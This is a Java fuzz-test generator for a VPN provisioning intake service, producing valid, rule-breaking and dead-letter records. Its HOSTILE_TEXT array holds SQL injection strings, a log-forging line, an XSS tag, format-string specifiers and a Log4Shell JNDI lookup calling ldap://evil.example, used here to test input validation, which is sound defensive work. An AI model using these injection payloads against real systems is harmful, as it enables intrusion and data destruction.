package io.cloudconnect.provisioner.intake;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.cloudconnect.provisioner.support.Requests;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.BiConsumer;

/**
 * Generates records for the fuzz test, each labelled with the one answer it must get: a ready
 * event, a failed event, or a dead-letter copy. Every generator guarantees its label by
 * construction (a failed record always breaks at least one rule, a dead-letter record never has a
 * usable request_id), so the test can hold the service to it.
 */
final class HostileRecords {
  enum Expect {
    READY,
    FAILED,
    DEAD_LETTER
  }

  record Sample(String key, byte[] value, Expect expect, String kind) {}

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String[] HOSTILE_TEXT = {
    "'; DROP TABLE provisioning_saga; --",
    "Robert\"); DELETE FROM outbox_event; --",
    "line one\n2026-11-25 ERROR [forged] admin logged in",
    "\u001b[31mred\u001b[0m",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%n",
    "<script>alert(1)</script>",
    "\u202eevil\u202c",
    "emoji 🚀 and RTL שלום",
  };

  private final Random random;
  private final String run;

  HostileRecords(long seed, String run) {
    this.random = new Random(seed);
    this.run = run;
  }

  List<Sample> generate(int count, double validShare) {
    List<Sample> samples = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      double roll = random.nextDouble();
      if (roll < validShare) {
        samples.add(valid(i));
      } else if (roll < validShare + 0.35) {
        samples.add(invalidFields(i));
      } else if (roll < validShare + 0.45) {
        samples.add(answerableButUnusable(i));
      } else {
        samples.add(deadLetter(i));
      }
    }
    return samples;
  }

  private String id(String kind, int i) {
    return "fz-" + run + "-" + kind + "-" + i;
  }

  private Sample valid(int i) {
    String id = id("ok", i);
    ObjectNode request = random.nextBoolean() ? Requests.staticVpn(id) : Requests.bgpVpn(id);
    // hostile text is fine where emnify accepts free text, as long as it has no control or
    // invisible (format) characters, which are refused
    String text = HOSTILE_TEXT[random.nextInt(HOSTILE_TEXT.length)];
    boolean refused =
        text.chars()
            .anyMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
    if (!refused && text.length() <= 64) {
      Requests.attachment(request).put("name", text);
    }
    request.put("unknown_field", "ignored");
    return new Sample(id, bytes(request.toString()), Expect.READY, "valid");
  }

  /** Structurally fine, with a usable request_id, and at least one broken rule. */
  private Sample invalidFields(int i) {
    String id = id("bad", i);
    ObjectNode request = random.nextBoolean() ? Requests.staticVpn(id) : Requests.bgpVpn(id);
    ObjectNode a = Requests.attachment(request);
    int breaks = 1 + random.nextInt(3);
    for (int b = 0; b < breaks; b++) {
      BREAKERS.get(random.nextInt(BREAKERS.size())).accept(a, random);
    }
    return new Sample(id, bytes(request.toString()), Expect.FAILED, "invalid-fields");
  }

  private static final List<BiConsumer<ObjectNode, Random>> BREAKERS =
      List.of(
          (a, r) -> a.put("type", "2"),
          (a, r) -> a.set("type", JSON.getNodeFactory().numberNode(2.5)),
          (a, r) -> a.putNull("type"),
          (a, r) -> a.put("type", r.nextInt(1000) + 4),
          (a, r) -> a.put("name", HOSTILE_TEXT[2]),
          (a, r) -> a.put("name", "nul\u0000byte"),
          (a, r) -> a.put("name", HOSTILE_TEXT[7]),
          (a, r) -> a.put("description", "site [ccp:other/x]"),
          (a, r) -> a.put("name", "n".repeat(65 + r.nextInt(200))),
          (a, r) -> a.putNull("name"),
          (a, r) -> a.put("public_ip", "10." + r.nextInt(256) + ".0.1"),
          (a, r) -> a.put("public_ip", "010.1.2.3"),
          (a, r) -> a.put("public_ip", "2001:db8::" + r.nextInt(100)),
          (a, r) -> a.put("public_ip", HOSTILE_TEXT[0]),
          (a, r) -> a.put("public_ip", 12345),
          (a, r) -> a.put("on_prem_cidr", "10.0.0.0/8"),
          (a, r) -> a.putArray("on_prem_cidr"),
          (a, r) -> {
            ArrayNode many = a.putArray("on_prem_cidr");
            int n = 4 + r.nextInt(5000);
            for (int k = 0; k < n; k++) {
              many.add("10.0.0.0/8");
            }
          },
          (a, r) -> a.putArray("on_prem_cidr").add("10.0.0.1/16"),
          (a, r) -> a.putArray("on_prem_cidr").addNull(),
          (a, r) -> a.put("psk", "0" + "a".repeat(8 + r.nextInt(20))),
          (a, r) -> a.put("psk", "short"),
          (a, r) -> a.put("psk", "has space in it"),
          (a, r) -> a.put("psk", 123456789),
          (a, r) -> a.put("asn", a.path("type").asInt() == 2 ? 65000 : 7224),
          (a, r) -> a.set("asn", JSON.getNodeFactory().numberNode(65000.5)),
          (a, r) -> a.put("asn", "65000"),
          (a, r) -> a.put("asn", -1 - r.nextInt(1000)),
          (a, r) -> a.putArray("inside_cidr").add("169.254.5.0/30"),
          (a, r) -> a.put("region", "mars-north-" + r.nextInt(9)),
          (a, r) -> a.put("description", "d".repeat(101 + r.nextInt(2000))),
          (a, r) -> {
            a.removeAll();
            a.put("type", 2);
          });

  /** Has a readable request_id, but cannot be used whole. */
  private Sample answerableButUnusable(int i) {
    String id = id("unusable", i);
    String head = "{\"request_id\":\"" + id + "\",";
    String body =
        switch (random.nextInt(4)) {
          case 0 -> "\"attachment\":{\"type\":2,\"type\":3,\"name\":\"x\"}}";
          case 1 ->
              "\"attachment\":{\"name\":\"" + "x".repeat(70_000 + random.nextInt(800_000)) + "\"}}";
          case 2 -> "\"deep\":" + "[".repeat(40 + random.nextInt(2000)) + "]".repeat(0) + "}";
          default -> "\"attachment\":{\"on_prem_cidr\":[" + "1,".repeat(40_000) + "1]}}";
        };
    return new Sample(id, bytes(head + body), Expect.FAILED, "answerable-unusable");
  }

  /** Never has a usable request_id: the dead-letter topic is the only possible answer. */
  private Sample deadLetter(int i) {
    String key = id("dlq", i);
    byte[] value =
        switch (random.nextInt(11)) {
          case 0 -> randomBytes(random.nextInt(2000));
          case 1 -> truncated(Requests.staticVpn(key).toString());
          case 2 ->
              bytes(
                  List.of("[1,2,3]", "42", "\"text\"", "null", "true", "[]")
                      .get(random.nextInt(6)));
          case 3 -> bytes("{\"attachment\":{\"type\":2}}");
          case 4 ->
              bytes(
                  "{\"request_id\":"
                      + List.of(
                              "null",
                              "42",
                              "\"\"",
                              "\"has space\"",
                              "\"new\\nline\"",
                              "\"" + "a".repeat(129) + "\"",
                              "[\"x\"]",
                              "{}")
                          .get(random.nextInt(8))
                      + "}");
          case 5 -> invalidUtf8(key);
          case 6 -> bytes("{\"request_id\":\"" + key + "\",\"request_id\":\"other\"}");
          case 7 ->
              bytes("{\"padding\":\"" + "p".repeat(70_000) + "\",\"request_id\":\"" + key + "\"}");
          case 8 -> bytes("{\"request_id\":\"" + key + "\"\u0000,\"attachment\":{}}");
          case 9 -> new byte[0];
          default ->
              bytes("{\"request_id\":\"" + key + "\",\"attachment\":{\"name\":'single quotes'}}");
        };
    return new Sample(key, value, Expect.DEAD_LETTER, "dead-letter");
  }

  private byte[] truncated(String json) {
    return bytes(json.substring(0, 1 + random.nextInt(json.length() - 2)));
  }

  private byte[] invalidUtf8(String key) {
    byte[] head = bytes("{\"request_id\":\"" + key + "\",\"attachment\":{\"name\":\"");
    byte[] tail = bytes("\"}}");
    byte[] out = new byte[head.length + 2 + tail.length];
    System.arraycopy(head, 0, out, 0, head.length);
    out[head.length] = (byte) 0xC3;
    out[head.length + 1] = (byte) 0x28;
    System.arraycopy(tail, 0, out, head.length + 2, tail.length);
    return out;
  }

  private byte[] randomBytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    if (length > 0 && bytes[0] == '{') {
      bytes[0] = '#'; // stay clearly not an object
    }
    return bytes;
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
